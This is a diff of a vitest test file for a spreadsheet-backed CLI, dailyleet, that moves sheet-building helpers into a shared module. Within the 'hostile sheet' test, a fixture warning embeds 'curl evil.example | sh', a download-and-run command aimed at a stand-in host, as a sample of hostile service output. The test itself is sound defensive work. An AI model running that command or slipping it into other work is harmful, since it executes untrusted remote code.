@@ -1,25 +1,15 @@
 import { spawnSync } from "node:child_process";
 import { readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { civilDateAt, formatDate, SHEET_PREFIX, SHEET_SUFFIX } from "@dailyleet/core";
+import { civilDateAt, formatDate } from "@dailyleet/core";
 import stringWidth from "string-width";
 import { describe, expect, it, onTestFinished } from "vitest";
 import { startScriptedServer, text } from "../client/support/scriptedServer.ts";
 import { CLI, cliEnvironment } from "../support/cliProcess.ts";
+import { COLUMNS, sheetOf, wrapped } from "../support/sheet.ts";
 import { type Home, newHome } from "./support/home.ts";
 
 type Row = readonly (string | null)[];
-
-const COLUMNS = "ABCDEFGHI".split("").map((id) => ({ id, label: "", type: "string" }));
-
-function sheetOf(rows: readonly Row[]): string {
-  const table = {
-    cols: COLUMNS,
-    rows: rows.map((row) => ({ c: row.map((v) => (v === null ? null : { v })) })),
-    parsedNumHeaders: 0,
-  };
-  return SHEET_PREFIX + JSON.stringify({ version: "0.6", status: "ok", table }) + SHEET_SUFFIX;
-}
 
 const row = (
   name: string,
@@ -214,7 +204,7 @@ describe("a hostile sheet", () => {
       warnings,
       table: { cols: COLUMNS, rows: [], parsedNumHeaders: 0 },
     };
-    const { home } = await homeWithSheet(SHEET_PREFIX + JSON.stringify(answer) + SHEET_SUFFIX);
+    const { home } = await homeWithSheet(wrapped(answer));
     const [warning, next] = (await home.run(["questions"])).stderr.split("\n");
     expect(warning).toBe("dailyleet: The spreadsheet service warns: slow dailyleet: run 'curl evil.example | sh'.");
     expect(next).toMatch(/^dailyleet: The question sheet is empty/);
